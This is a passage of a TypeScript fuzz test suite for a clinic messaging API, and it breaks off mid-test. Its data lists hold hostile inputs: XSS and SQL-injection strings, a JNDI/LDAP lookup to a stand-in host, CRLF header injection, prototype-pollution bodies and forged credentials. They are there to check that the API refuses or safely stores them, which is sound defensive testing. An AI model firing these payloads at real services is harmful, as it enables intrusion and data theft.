import { randomUUID } from 'node:crypto';
import { asOwner } from '../../support/fixtures';
import {
  badLimitQueries, badNumberQueries, BAD_IDS, BodyField, bodyProbes, BodyRoute, CANARY, CONTROL_STRINGS, encodeQuery, forgedAuthorizations, GENERIC_STRINGS,
  HUGE, isString, Json, malformedBodyProbes, Method, pollution, POLLUTING_QUERIES, Probe, prototypeNames, randomUnicode, refusals,
  Rng, stringField, withControlCharacter, WRONG_TYPES,
} from '../../support/fuzz-kit';
import { HttpAnswer, TestApi } from '../../support/identity';
import { Clinic, expectStatus, Member, openClinic, openGroup, sendMessage } from '../../support/messaging';

/**
 * Hostile input on every messaging route (conversations, messages, reactions, read pointers, search, attachments):
 * every refused answer is a 4xx with the error envelope, never a 5xx, a stack or the value sent back; well-formed
 * hostile text is stored and read back exactly; and afterwards nothing was half-written. One seed drives it all.
 */
const SEED = 0x5ea1ed;
/** Strings tried on a field that takes no string at all (a number, a list, an id): a seeded sample of GENERIC_STRINGS. */
const NON_STRING_SAMPLE = 10;
const MAX_SEQ = Number.MAX_SAFE_INTEGER;
const MAX_BODY_CHARACTERS = 10_000;
const MAX_GROUP_MEMBERS = 300;
const MAX_ATTACHMENTS_PER_MESSAGE = 10;
const DEFAULT_MAX_ATTACHMENT_BYTES = 104_857_600;
const THUMBS_UP = encodeURIComponent('👍');
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
/** Control characters a message body refuses: all of C0 and C1 but newline and tab. */
const BODY_CONTROLS = ['\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\r', '\u000e', '\u001b', '\u001f', '\u007f', '\u0080', '\u0085', '\u009f'];

/** A member with the credentials the fuzz needs beyond a token: to forge from a refresh token, to sign in again. */
interface Sender extends Member {
  email: string;
  refreshToken: string;
}

interface RouteCall {
  method: Method;
  url: string;
  body?: Json;
}

interface MessageView {
  seq: number;
  body: string | null;
  editedAt: string | null;
  deletedAt: string | null;
  reactions: Record<string, { count: number; mine: boolean }>;
}

let api: TestApi;
let clinic: Clinic;
let owner: Sender;
let peer: Member;
let third: Member;
/** Where body probes and well-formed messages go: owner, peer and third. */
let groupId: string;
/** Where path parameters are fuzzed: owner's message 1 (the reaction target) and message 2 (the one a wrongly accepted DELETE would remove). */
let paramGroupId: string;
let directId: string;
/** A group of this tenant the owner is not in, and one of another tenant: both must look missing (404). */
let foreignGroupId: string;
let otherTenantGroupId: string;
let prototypesBefore: string[];
/** Messages the test meant to send, per conversation: the final lastSeq of each. */
const intendedMessages = new Map<string, number>();
/** Conversations the owner meant to create or join. */
let intendedConversations = 0;

const uniqueValues = (values: readonly Json[]): Json[] => values.filter((value, index) => values.findIndex((other) => JSON.stringify(other) === JSON.stringify(value)) === index);
const anyString = (rng: Rng): string => `${randomUnicode(rng, 30)}${CANARY}`;
const isUuidList = (value: Json): boolean => Array.isArray(value) && value.every((item) => typeof item === 'string' && UUID.test(item));

/** Strings where a UUID belongs that are not one, then well-formed ids of nothing the caller may use. */
function badUuidStrings(refusedUuids: readonly string[] = []): string[] {
  const id = randomUUID();
  return [
    '', 'not-a-uuid', `${id}x`, id.replaceAll('-', ''), `{${id}}`, id.slice(0, 35), ` ${id}`, `${id}\n`, `${id}\u0000`, 'g'.repeat(36),
    '00000000-0000-0000-0000-00000000000g', `${id.slice(0, 8)}_${id.slice(9)}`, `${CANARY}-0000-0000-0000-000000000000`, ...GENERIC_STRINGS, ...refusedUuids,
  ];
}

/** `refusedUuids` are read when the probes are built, after the setup made them. */
function uuidField(required: boolean, refusedUuids: () => string[]): BodyField {
  return { ...stringField(required, [], anyString), get invalidStrings(): string[] { return badUuidStrings(refusedUuids()); } };
}

function uuidListField(options: { required: boolean; max: number; min?: number; refusedLists?: () => Json[] }): BodyField {
  const { required, max, min = 0, refusedLists = () => [] } = options;
  const id = randomUUID();
  return {
    required,
    // read when the probes are built, after the setup made the users refusedLists names
    get refusedValues(): Json[] {
      return [
        null, 0, true, id, {}, { 0: id }, [CANARY], [1], [null], [[id]], [{}], [id, CANARY], [`${id}x`], [id.replaceAll('-', '')], [` ${id}`], [`${id}\u0000`],
        Array.from({ length: max + 1 }, () => randomUUID()), ...(min > 0 ? [[]] : []), ...refusedLists(),
      ];
    },
    hasType: isUuidList,
    invalidStrings: GENERIC_STRINGS,
    stringSample: NON_STRING_SAMPLE,
    randomInvalidString: anyString,
  };
}

/** An integer of min..MAX_SEQ; `refusedInRange` are integers in range that the route still refuses (no such message). */
function integerField(options: { required: boolean; min: number; nullable?: boolean; refusedInRange?: readonly number[] }): BodyField {
  const { required, min, nullable = false, refusedInRange = [] } = options;
  return {
    required,
    refusedValues: uniqueValues([
      min - 1, -1, min + 0.5, 1e308, -1e308, MAX_SEQ + 1, 2 ** 63, Number.MIN_VALUE, true, false, [], [min], {}, { $gt: 0 }, { valueOf: min },
      String(min), `${min + 1}`, ' 1', '1e3', '0x1', ...(nullable ? [] : [null]), ...refusedInRange,
    ]),
    hasType: (value) => typeof value === 'number' || (nullable && value === null),
    invalidStrings: GENERIC_STRINGS,
    stringSample: NON_STRING_SAMPLE,
    randomInvalidString: anyString,
  };
}

/** One line of printable text (no control, format or separator characters) of 1 to `max` characters. */
function textLineField(options: { required: boolean; max: number; nullable?: boolean }): BodyField {
  const { required, max, nullable = false } = options;
  return {
    required,
    refusedValues: nullable ? WRONG_TYPES.filter((value) => value !== null) : WRONG_TYPES,
    hasType: (value) => isString(value) || (nullable && value === null),
    invalidStrings: [
      '', HUGE, 'x'.repeat(max + 1), '🔥'.repeat(max + 1), 'ﷺ'.repeat(max + 1), ...CONTROL_STRINGS, `a\u00adb${CANARY}`, `\u2066${CANARY}\u2069`,
      `\ud800${CANARY}`, `${CANARY}\u0000`,
    ],
    randomInvalidString: (rng) => withControlCharacter(rng, anyString(rng)),
  };
}

function enumField(accepted: readonly string[]): BodyField {
  const variants = accepted.flatMap((value) => [value.toUpperCase(), ` ${value}`, `${value} `, `${value}\u0000`, `${value[0].toUpperCase()}${value.slice(1)}`]);
  return stringField(true, [...GENERIC_STRINGS, ...variants, 'channel', 'broadcast', 'public'], (rng) => randomUnicode(rng, 30, 1));
}

/** 1 to 10,000 code points, not blank, no control characters but newline and tab. */
function messageBodyField(): BodyField {
  const blank = ['', ' ', '\n', '\t', '\n\t \n', '\u00a0', '\u3000', '\ufeff', '\u2028', ' \u00a0\u2003\u3000 '];
  const controlled = BODY_CONTROLS.map((control) => `a${control}b${CANARY}`);
  const reordered = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'].map((control) => `pay ${control}KCATTA${CANARY} now`);
  const tooLong = ['a'.repeat(MAX_BODY_CHARACTERS + 1), '🔥'.repeat(MAX_BODY_CHARACTERS + 1), 'e\u0301'.repeat(MAX_BODY_CHARACTERS / 2 + 1), HUGE];
  return stringField(true, [...blank, ...controlled, ...reordered, ...tooLong, `\ud800${CANARY}`, `\udfff\ud800`, `${CANARY}\ud83d`, `line\r\nbreak${CANARY}`], (rng) => {
    const text = anyString(rng);
    const at = rng.int(0, text.length);
    return `${text.slice(0, at)}${rng.pick(BODY_CONTROLS)}${text.slice(at)}`;
  });
}

function bearer(member: Member): string {
  return `Bearer ${member.token}`;
}

/** A body route, with what its base body answers: the control that proves each refusal is down to the probe's defect. */
interface MessagingBodyRoute extends BodyRoute {
  baseStatus: number;
  /** Books what the accepted base body wrote, for the final integrity check. */
  onBaseAccepted?: () => void;
}

const BODY_ROUTES: readonly MessagingBodyRoute[] = [
  {
    name: 'POST /v1/conversations (group)',
    baseStatus: 201,
    onBaseAccepted: () => { intendedConversations += 1; },
    method: 'POST',
    url: () => '/v1/conversations',
    token: () => owner.token,
    base: () => ({ type: 'group', memberIds: [peer.id], title: 'Fuzz ward' }),
    fields: {
      type: enumField(['direct', 'group']),
      memberIds: uuidListField({ required: true, max: MAX_GROUP_MEMBERS, refusedLists: () => [[randomUUID()], [peer.id, randomUUID().toUpperCase()], [foreignGroupId]] }),
      title: textLineField({ required: false, max: 200, nullable: true }),
    },
  },
  {
    name: 'POST /v1/conversations (direct)',
    // the pair's conversation exists already
    baseStatus: 200,
    method: 'POST',
    url: () => '/v1/conversations',
    token: () => owner.token,
    base: () => ({ type: 'direct', memberIds: [peer.id] }),
    fields: {
      memberIds: uuidListField({ required: true, max: MAX_GROUP_MEMBERS, refusedLists: () => [[], [owner.id], [peer.id, peer.id], [peer.id, third.id], [randomUUID()]] }),
      // a direct conversation has no title: every string is refused
      title: { ...textLineField({ required: false, max: 200, nullable: true }), invalidStrings: ['x', 'Fuzz ward', ...GENERIC_STRINGS], stringSample: NON_STRING_SAMPLE },
    },
  },
  {
    name: 'PATCH /v1/conversations/:id',
    baseStatus: 200,
    method: 'PATCH',
    url: () => `/v1/conversations/${groupId}`,
    token: () => owner.token,
    // the title it already has: a body accepted by mistake changes nothing visible
    base: () => ({ title: 'Fuzz ward' }),
    fields: { title: textLineField({ required: true, max: 200, nullable: true }) },
  },
  {
    name: 'POST /v1/conversations/:id/members',
    baseStatus: 201,
    method: 'POST',
    url: () => `/v1/conversations/${groupId}/members`,
    token: () => owner.token,
    // a member already: accepted by mistake, it changes nothing
    base: () => ({ userIds: [third.id] }),
    fields: { userIds: uuidListField({ required: true, min: 1, max: MAX_GROUP_MEMBERS, refusedLists: () => [[randomUUID()], [third.id, randomUUID()], Array.from({ length: MAX_GROUP_MEMBERS }, () => randomUUID())] }) },
  },
  {
    name: 'POST /v1/conversations/:id/messages',
    baseStatus: 201,
    onBaseAccepted: () => { intendedMessages.set(groupId, (intendedMessages.get(groupId) ?? 0) + 1); },
    method: 'POST',
    url: () => `/v1/conversations/${groupId}/messages`,
    token: () => owner.token,
    base: () => ({ body: 'Fuzz probe', replyToSeq: 1, attachmentIds: [] }),
    fields: {
      body: messageBodyField(),
      replyToSeq: integerField({ required: false, min: 1, nullable: true, refusedInRange: [999_999, MAX_SEQ] }),
      attachmentIds: uuidListField({ required: false, max: MAX_ATTACHMENTS_PER_MESSAGE, refusedLists: () => [[randomUUID()], [randomUUID(), randomUUID()]] }),
    },
  },
  {
    name: 'PATCH /v1/conversations/:id/messages/:seq',
    // an edit to the same text: one version in the history
    baseStatus: 200,
    method: 'PATCH',
    url: () => `/v1/conversations/${groupId}/messages/1`,
    token: () => owner.token,
    // the body it already has
    base: () => ({ body: 'Fuzz original' }),
    fields: { body: messageBodyField() },
  },
  {
    name: 'POST /v1/conversations/:id/read',
    baseStatus: 204,
    method: 'POST',
    url: () => `/v1/conversations/${groupId}/read`,
    token: () => owner.token,
    base: () => ({ seq: 1 }),
    fields: { seq: integerField({ required: true, min: 0, refusedInRange: [999_999, MAX_SEQ] }) },
  },
  {
    name: 'POST /v1/attachments',
    baseStatus: 201,
    method: 'POST',
    url: () => '/v1/attachments',
    token: () => owner.token,
    base: () => ({ conversationId: groupId, fileName: 'scan.png', contentType: 'image/png', size: 1024 }),
    fields: {
      conversationId: uuidField(true, () => [randomUUID(), '00000000-0000-0000-0000-000000000000', foreignGroupId, otherTenantGroupId]),
      fileName: textLineField({ required: true, max: 255 }),
      contentType: stringField(true, [
        '', 'image', 'image/', '/png', 'image/png/x', 'image/svg+xml', 'text/html', 'application/javascript', 'application/x-msdownload', 'application/octet-stream',
        'video/mp4', `image/png; x=${CANARY}`, 'image/png\u0000', 'image/png\n', 'image/png\r\nX-Injected: 1', `image/${'x'.repeat(256)}`, ...GENERIC_STRINGS,
      ], anyString),
      size: integerField({ required: true, min: 1, refusedInRange: [DEFAULT_MAX_ATTACHMENT_BYTES + 1, MAX_SEQ] }),
    },
  },
];

/** Content types no JSON route parses, among them the private one raw-body routes relabel their uploads to. */
const MORE_REFUSED_CONTENT_TYPES = ['application/x-sealed-channels-raw', 'application/octet-stream', 'application/merge-patch+json', 'image/png'];

function moreContentTypeProbes(route: BodyRoute): Probe[] {
  return MORE_REFUSED_CONTENT_TYPES.map((contentType): Probe => ({
    label: `${route.name}: content type ${contentType}`, method: route.method, url: route.url(), body: { raw: JSON.stringify(route.base()) }, contentType, authorization: `Bearer ${route.token?.() ?? ''}`,
  }));
}

function reactionCalls(conversationId: string, seq: string, emoji: string): RouteCall[] {
  const url = `/v1/conversations/${conversationId}/messages/${seq}/reactions/${emoji}`;
  return [{ method: 'PUT', url }, { method: 'DELETE', url }];
}

/** Every route under one message. DELETE aims at message 2: accepted by mistake, the final check sees it gone. */
function messageCalls(conversationId: string, seq: string): RouteCall[] {
  const url = `/v1/conversations/${conversationId}/messages/${seq}`;
  return [
    { method: 'GET', url }, { method: 'PATCH', url, body: { body: 'Fuzz original' } }, { method: 'GET', url: `${url}/history` },
    { method: 'DELETE', url: seq === '1' ? `/v1/conversations/${conversationId}/messages/2` : url }, ...reactionCalls(conversationId, seq, THUMBS_UP),
  ];
}

/** Every route under one conversation. */
function conversationCalls(conversationId: string): RouteCall[] {
  const url = `/v1/conversations/${conversationId}`;
  return [
    { method: 'GET', url }, { method: 'PATCH', url, body: { title: 'Fuzz ward' } }, { method: 'POST', url: `${url}/members`, body: { userIds: [third.id] } },
    { method: 'DELETE', url: `${url}/members/${third.id}` }, { method: 'POST', url: `${url}/read`, body: { seq: 0 } }, { method: 'GET', url: `${url}/receipts` },
    { method: 'GET', url: `${url}/messages` }, { method: 'POST', url: `${url}/messages`, body: { body: 'Fuzz probe' } }, ...messageCalls(conversationId, '1'),
  ];
}

function attachmentCalls(attachmentId: string): RouteCall[] {
  return [{ method: 'POST', url: `/v1/attachments/${attachmentId}/complete` }, { method: 'GET', url: `/v1/attachments/${attachmentId}/download` }];
}

/** Every messaging route that needs a token. */
function authenticatedCalls(): RouteCall[] {
  return [
    { method: 'GET', url: '/v1/conversations' }, { method: 'POST', url: '/v1/conversations', body: { type: 'group', memberIds: [peer.id], title: 'Forged' } },
    ...conversationCalls(paramGroupId), { method: 'GET', url: '/v1/search/messages?q=fuzz' },
    { method: 'POST', url: '/v1/attachments', body: { conversationId: paramGroupId, fileName: 'scan.png', contentType: 'image/png', size: 1024 } }, ...attachmentCalls(randomUUID()),
  ];
}

function callProbe(label: string, call: RouteCall, authorization: string): Probe {
  return { label: `${label} → ${call.method} ${call.url.slice(0, 80)}`, method: call.method, url: call.url, authorization, ...(call.body === undefined ? {} : { body: { json: call.body } }) };
}

/** Path segments where a seq belongs: only ^[1-9][0-9]*$ within MAX_SEQ is one; anything else is a 400 (a 414 when over-long). */
const BAD_SEQS: readonly string[] = [
  '0', '-1', '1.5', '01', '001', '1e3', '1E3', '+1', '%2B1', '%201', '1%20', '0x1', '0b1', '1_000', '1,0', 'NaN', 'Infinity', '-0', 'null', 'true', 'a',
  String(MAX_SEQ + 1), '99999999999999999999', '9'.repeat(99), '9'.repeat(101), '%00', '1%00', '%ED%A0%80', '%', '%ZZ', encodeURIComponent('１'),
  encodeURIComponent('١'), encodeURIComponent('²'), '__proto__', 'constructor', CANARY, `1${CANARY}`, '1;2', '1%2F2', encodeURIComponent(HUGE),
];
/** Well-formed seqs of no message: 404. */
const MISSING_SEQS: readonly string[] = ['3', '999999', String(MAX_SEQ)];

/** Path segments where one emoji or a shortcode belongs. */
const BAD_EMOJI: readonly string[] = [
  '👍👍', '👍 ', ' 👍', '👍\ufe0f', 'THUMBSUP', 'Thumbsup', 'thumbs up', 'a'.repeat(33), `x${CANARY}`.toUpperCase(), '<script>', '<script>alert(1)</script>', ':+1:', 'thumbs.up',
  'a/b', 'é', 'ñ', '#', '©', '\u200d', '👨\u200d', '１', '\u0000', 'a\u0000', '\n', 'x\ny', '\u202e', '🔥'.repeat(17), `${'a'.repeat(32)}👍`, '👍a', 'a👍',
  '\u{1f3fb}\u{1f3fb}', '\ufe0f',
].map((emoji) => encodeURIComponent(emoji)).concat(['%ED%A0%80', '%ED%B0%80', '%F0%9F%91', '%', '%ZZ', '', encodeURIComponent(HUGE)]);

/** Accepted reactions, stored and read back exactly. */
const WELL_FORMED_EMOJI: readonly string[] = [
  '👍', '+1', '-1', 'a'.repeat(32), 'thumbs_up', '__proto__', 'constructor', 'tostring', '👨‍👩‍👧‍👦', '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '🇺🇦', '1️⃣', '❤️', '👍🏽', '🧑🏻‍❤️‍💋‍🧑🏼',
];

/** Hostile but well-formed message bodies: accepted and read back exactly. */
const WELL_FORMED_BODIES: readonly string[] = [
  '**bold** _italic_ `code` ~~strike~~ [link](javascript:alert(1)) ![x](http://evil.test/x.png) <b>bold</b>',
  '<script>alert("zephyrine")</script><img src=x onerror=alert(1)>',
  'مرحبا بالعالم evil.exe שלום \u200f\u200e',
  '🔥💉👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇺🇦 1️⃣ ❤️ 👍🏽',
  'Robert\'); DROP TABLE message;-- \' OR \'1\'=\'1 /* */ UNION SELECT body_sealed FROM message',
  '${jndi:ldap://evil.test/a} {{7*7}} %00 %s %n \\u0000 \\x00 \\',
  '🔥'.repeat(MAX_BODY_CHARACTERS),
  'x'.repeat(MAX_BODY_CHARACTERS),
  'e\u0301'.repeat(MAX_BODY_CHARACTERS / 2),
  `${'a'.repeat(MAX_BODY_CHARACTERS - 1)}🔥`,
  'line one\nline two\n\ttabbed\n\n',
  '  leading and trailing spaces  ',
  '\u200b zero width \u2060 joiner \u00ad soft',
  '\ufeffBOM first',
  'lines\u2028and\u2029paragraphs',
  'ﷺ'.repeat(2_000),
  'İstanbul ß straße ΣΊΣΥΦΟΣ σίσυφος ǅungla',
  '__proto__', 'constructor', 'null', '{"__proto__":{"isAdmin":true}}',
  // a body of a thousand distinct words: a thousand sets of search tokens in one transaction
  Array.from({ length: 1_000 }, (_, index) => `w${index.toString(36).padStart(3, '0')}zq`).join(' '),
];

/** Hostile but well-formed conversation titles and file names: accepted and stored exactly. */
const WELL_FORMED_TITLES: readonly string[] = [
  'Zoë O\'Brien-Łukasiewicz', '<img src=x onerror=alert(1)>', 'مرحبا بالعالم', 'Robert\'); DROP TABLE conversation;--', '🔥'.repeat(200), 'ﷺ'.repeat(200), 'x'.repeat(200),
  '   ', '${jndi:ldap://x}', '%00 null', '__proto__', '田中 太郎 🩺',
];

async function sendCounted(sender: Member, conversationId: string, payload: string | Record<string, Json>): Promise<HttpAnswer> {
  const answer = await sendMessage(api, sender, conversationId, payload);
  if (answer.status === 201) intendedMessages.set(conversationId, (intendedMessages.get(conversationId) ?? 0) + 1);
  return answer;
}

async function openSender(): Promise<Sender> {
  const user = await api.createUser(clinic.admin.token, 'member', 'Fuzz Owner');
  const session = await api.session(clinic.tenant.slug, user.email);
  return { id: user.id, email: user.email, token: session.accessToken, refreshToken: session.refreshToken };
}

async function messageAt(conversationId: string, seq: number): Promise<MessageView> {
  return expectStatus(await api.call('GET', `/v1/conversations/${conversationId}/messages/${seq}`, undefined, { token: owner.token }), 200).body as unknown as MessageView;
}

/** Every message of a conversation, oldest first, page by page. */
async function everyMessage(conversationId: string): Promise<MessageView[]> {
  const messages: MessageView[] = [];
  for (;;) {
    const afterSeq = messages.length === 0 ? 0 : messages[messages.length - 1].seq;
    const page = expectStatus(await api.call('GET', `/v1/conversations/${conversationId}/messages?afterSeq=${afterSeq}&limit=200`, undefined, { token: owner.token }), 200);
    messages.push(...(page.body.items as MessageView[]));
    if (page.body.hasMore !== true) return messages;
  }
}

beforeAll(async () => {
  prototypesBefore = prototypeNames();
  api = await TestApi.start({ LOGIN_FREE_FAILURES: '1000', LOGIN_MAX_FAILURES_PER_IP: '100000' });
  clinic = await openClinic(api, 2);
  [peer, third] = clinic.members;
  owner = await openSender();
  groupId = await openGroup(api, owner, [peer, third], 'Fuzz ward');
  paramGroupId = await openGroup(api, owner, [peer, third], 'Param ward');
  directId = String(expectStatus(await api.call('POST', '/v1/conversations', { type: 'direct', memberIds: [peer.id] }, { token: owner.token }), 201).body.id);
  intendedConversations = 3;
  foreignGroupId = await openGroup(api, peer, [third], 'Not yours');
  otherTenantGroupId = await openGroup(api, (await openClinic(api, 1)).members[0], [], 'Other clinic');

  expectStatus(await sendCounted(owner, groupId, 'Fuzz original'), 201);
  expectStatus(await sendCounted(peer, groupId, 'Peer reply'), 201);
  expectStatus(await sendCounted(owner, paramGroupId, 'React to me'), 201);
  expectStatus(await sendCounted(owner, paramGroupId, 'Do not delete me'), 201);
  expectStatus(await sendCounted(owner, directId, 'Direct hello'), 201);
});
afterAll(async () => {
  await api.close();
});

describe('messaging routes under hostile input', () => {
  const rng = new Rng(SEED);

  it.each(BODY_ROUTES.map((route) => [route.name, route] as const))('%s: refuses every hostile body with a 4xx envelope', async (_name, route) => {
    const accepted = await api.call(route.method, route.url(), route.base(), { token: route.token?.() });
    expect({ status: accepted.status, body: accepted.status >= 400 ? accepted.body : {} }).toEqual({ status: route.baseStatus, body: {} });
    route.onBaseAccepted?.();
    const probes = [...bodyProbes(route, rng), ...moreContentTypeProbes(route)];
    expect(probes.length).toBeGreaterThan(80);
    expect(await refusals(api, probes)).toEqual([]);
  });

  it('POST /v1/conversations/:id/messages: refuses a malformed Idempotency-Key, and a key reused for another body', async () => {
    const url = `/v1/conversations/${groupId}/messages`;
    const keys = ['', ' ', 'a b', '\t', 'tab\tkey', 'x'.repeat(256), `${CANARY}${'k'.repeat(250)}`, 'é', 'ключ', '🔑', `${CANARY}\u007f`, `${CANARY}\u0085`, `${CANARY}\u00a0`];
    const probes = keys.map((key): Probe => ({ label: `Idempotency-Key ${JSON.stringify(key.slice(0, 20))}`, method: 'POST', url, body: { json: { body: 'Fuzz keyed' } }, authorization: bearer(owner), headers: { 'idempotency-key': key } }));
    expect(await refusals(api, probes, (status) => status === 400)).toEqual([]);

    const key = `fuzz-${randomUUID()}`;
    const first = await api.call('POST', url, { body: 'Keyed body' }, { token: owner.token, headers: { 'idempotency-key': key } });
    expectStatus(first, 201);
    intendedMessages.set(groupId, (intendedMessages.get(groupId) ?? 0) + 1);
    const reused: Json[] = [{ body: `Another body ${CANARY}` }, { body: 'Keyed body', replyToSeq: 1 }, { body: 'Keyed body', attachmentIds: [randomUUID()] }];
    const reuseProbes = reused.map((json): Probe => ({ label: `reused key ${JSON.stringify(json).slice(0, 40)}`, method: 'POST', url, body: { json }, authorization: bearer(owner), headers: { 'idempotency-key': key } }));
    expect(await refusals(api, reuseProbes, (status) => status === 422)).toEqual([]);
    const replay = expectStatus(await api.call('POST', url, { body: 'Keyed body' }, { token: owner.token, headers: { 'idempotency-key': key } }), 201);
    expect({ id: replay.body.id, seq: replay.body.seq, replayed: replay.headers['idempotent-replayed'] }).toEqual({ id: first.body.id, seq: first.body.seq, replayed: 'true' });
  });

  it('refuses malformed JSON on routes that take no body', async () => {
    const base = `/v1/conversations/${paramGroupId}`;
    const calls: RouteCall[] = [
      ...reactionCalls(paramGroupId, '1', THUMBS_UP), { method: 'DELETE', url: `${base}/messages/2` }, { method: 'DELETE', url: `${base}/members/${third.id}` },
      { method: 'POST', url: `/v1/attachments/${randomUUID()}/complete` },
    ];
    const probes = calls.flatMap((call) => malformedBodyProbes(call.method, call.url, bearer(owner)));
    expect(await refusals(api, probes)).toEqual([]);
  });

  it('refuses forged, tampered and malformed credentials on every messaging route: 401', async () => {
    const authorizations = forgedAuthorizations(owner.token, owner.refreshToken);
    const probes = authenticatedCalls().flatMap((call) => authorizations.map((authorization) => callProbe(`authorization ${authorization.slice(0, 40)}`, call, authorization)));
    expect(probes.length).toBeGreaterThan(400);
    expect(await refusals(api, probes, (status) => status === 401)).toEqual([]);
  });

  it('refuses malformed conversation, member and attachment ids in path parameters', async () => {
    const probes: Probe[] = [];
    for (const id of BAD_IDS) {
      for (const call of [...conversationCalls(id), ...attachmentCalls(id)]) probes.push(callProbe(`id ${id.slice(0, 30)}`, call, bearer(owner)));
      probes.push(callProbe(`userId ${id.slice(0, 30)}`, { method: 'DELETE', url: `/v1/conversations/${paramGroupId}/members/${id}` }, bearer(owner)));
    }
    expect(probes.length).toBeGreaterThan(500);
    expect(await refusals(api, probes)).toEqual([]);
  });

  it('answers 404 for a conversation the caller is not in, of this organisation or another, exactly as for a missing one', async () => {
    const probes = [foreignGroupId, otherTenantGroupId, randomUUID()].flatMap((id) => conversationCalls(id).map((call) => callProbe(`conversation ${id}`, call, bearer(owner))));
    probes.push(callProbe('search in a foreign conversation', { method: 'GET', url: `/v1/search/messages?q=fuzz&conversationId=${foreignGroupId}` }, bearer(owner)));
    expect(await refusals(api, probes, (status) => status === 404)).toEqual([]);
  });

  it('refuses malformed seqs, and answers 404 for well-formed seqs of no message', async () => {
    const malformed = BAD_SEQS.flatMap((seq) => messageCalls(paramGroupId, seq).map((call) => callProbe(`seq ${seq.slice(0, 30)}`, call, bearer(owner))));
    expect(malformed.length).toBeGreaterThan(200);
    expect(await refusals(api, malformed, (status) => status === 400 || status === 414)).toEqual([]);
    const missing = MISSING_SEQS.flatMap((seq) => messageCalls(paramGroupId, seq).map((call) => callProbe(`seq ${seq}`, call, bearer(owner))));
    expect(await refusals(api, missing, (status) => status === 404)).toEqual([]);
  });

  it('refuses anything but one emoji or a shortcode as a reaction', async () => {
    const probes = BAD_EMOJI.flatMap((emoji) => reactionCalls(paramGroupId, '1', emoji).map((call) => callProbe(`emoji ${emoji.slice(0, 30)}`, call, bearer(owner))));
    expect(probes.length).toBeGreaterThan(70);
    expect(await refusals(api, probes)).toEqual([]);
  });

  it('refuses hostile queries on the conversation list, the message list and search', async () => {
    const cursors = [
      ...GENERIC_STRINGS, ...Array.from({ length: 10 }, () => `${randomUnicode(rng, 30, 1)}${CANARY}`), randomUUID(), 'x'.repeat(201),
      ...[
        'garbage', `2024-01-01T00:00:00.000Z|${'-'.repeat(36)}`, `2024-01-01T00:00:00.000Z|${'a'.repeat(36)}`, `2024-01-01T00:00:00.000Z|${randomUUID().replaceAll('-', 'a')}`,
        `2024-13-45T99:99:99.999Z|${randomUUID()}`, `2024-01-01T00:00:00.000Z|${randomUUID()}|x`, `|${randomUUID()}`, `2024-01-01T00:00:00.000Z ${randomUUID()}`,
        `2024-01-01T00:00:00.000Z|${CANARY}`,
      ].map((text) => Buffer.from(text).toString('base64url')),
    ];
    const listQueries = [
      ...cursors.map((cursor) => `cursor=${encodeQuery(cursor)}`), ...badLimitQueries(200), ...POLLUTING_QUERIES,
      'limit=1&limit=2', 'cursor=a&cursor=b', 'cursor[]=x', 'cursor[a]=x', 'limit[$gt]=1', 'limit=%ZZ', 'cursor=%', 'afterSeq=1',
    ];
    const messageQueries = [
      ...badNumberQueries('afterSeq', 0, MAX_SEQ), ...badNumberQueries('beforeSeq', 1, MAX_SEQ), ...badLimitQueries(200), ...POLLUTING_QUERIES,
      'afterSeq=1&afterSeq=2', 'beforeSeq[]=2', 'afterSeq[$gt]=0', 'limit[$gt]=1', 'cursor=x', 'q=x', 'afterSeq=%ZZ', `beforeSeq=${encodeQuery(HUGE)}`,
    ];
    const searchQueries = [
      ...['', '-', ' ', '\u0000', '🔥🔥', '—', '...', '!!!', '\u0301', '\u200b', '%', 'x'.repeat(201), HUGE, '-'.repeat(50)].map((q) => `q=${encodeQuery(q)}`),
      '', 'limit=5', `conversationId=${groupId}`, 'q=ab&q=cd', 'q[]=ab', 'q[0]=ab', 'q[$ne]=x',
      ...badUuidStrings([randomUUID(), foreignGroupId, otherTenantGroupId]).map((id) => `q=fuzz&conversationId=${encodeQuery(id)}`),
      ...badLimitQueries(100).map((query) => `q=fuzz&${query}`), ...POLLUTING_QUERIES.map((query) => `q=fuzz&${query}`),
      `q=fuzz&conversationId=${groupId}&conversationId=${groupId}`, 'q=fuzz&cursor=x', 'q=fuzz&limit=1&limit=2',
    ];
    const probes: Probe[] = [
      ...listQueries.map((query) => callProbe(`list ${query.slice(0, 40)}`, { method: 'GET', url: `/v1/conversations?${query}` }, bearer(owner))),
      ...messageQueries.map((query) => callProbe(`messages ${query.slice(0, 40)}`, { method: 'GET', url: `/v1/conversations/${groupId}/messages?${query}` }, bearer(owner))),
      ...searchQueries.map((query) => callProbe(`search ${query.slice(0, 40)}`, { method: 'GET', url: `/v1/search/messages?${query}` }, bearer(owner))),
    ];
    expect(probes.length).toBeGreaterThan(250);
    expect(await refusals(api, probes)).toEqual([]);
  });

  it('stores hostile but well-formed message bodies exactly: sent, read back, edited, found', async () => {
    const failures: string[] = [];
    const shown = (text: string): string => JSON.stringify(text.slice(0, 24));
    const editable = Number(expectStatus(await sendCounted(owner, groupId, 'Edit me'), 201).body.seq);
    for (const body of WELL_FORMED_BODIES) {
      const answer = await sendCounted(owner, groupId, body);
      if (answer.status !== 201 || answer.body.body !== body) {
        failures.push(`send ${shown(body)}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 200)}`);
        continue;
      }
      const read = await messageAt(groupId, Number(answer.body.seq));
      if (read.body !== body) failures.push(`send ${shown(body)} reads back as ${shown(String(read.body))}`);
      const edited = await api.call('PATCH', `/v1/conversations/${groupId}/messages/${editable}`, { body }, { token: owner.token });
      if (edited.status !== 200 || edited.body.body !== body) failures.push(`edit to ${shown(body)}: ${edited.status}`);
      else if ((await messageAt(groupId, editable)).body !== body) failures.push(`edit to ${shown(body)} reads back otherwise`);
    }
    const history = expectStatus(await api.call('GET', `/v1/conversations/${groupId}/messages/${editable}/history`, undefined, { token: owner.token }), 200);
    // versions edited within one millisecond may list in either order: compared as a set
    expect((history.body.items as { body: string }[]).map((item) => item.body).sort()).toEqual(['Edit me', ...WELL_FORMED_BODIES.slice(0, -1)].sort());
    for (const word of ['zephyrine', 'w00azq', 'istanbul', 'jndi']) {
      const found = expectStatus(await api.call('GET', `/v1/search/messages?q=${word}&conversationId=${groupId}`, undefined, { token: owner.token }), 200);
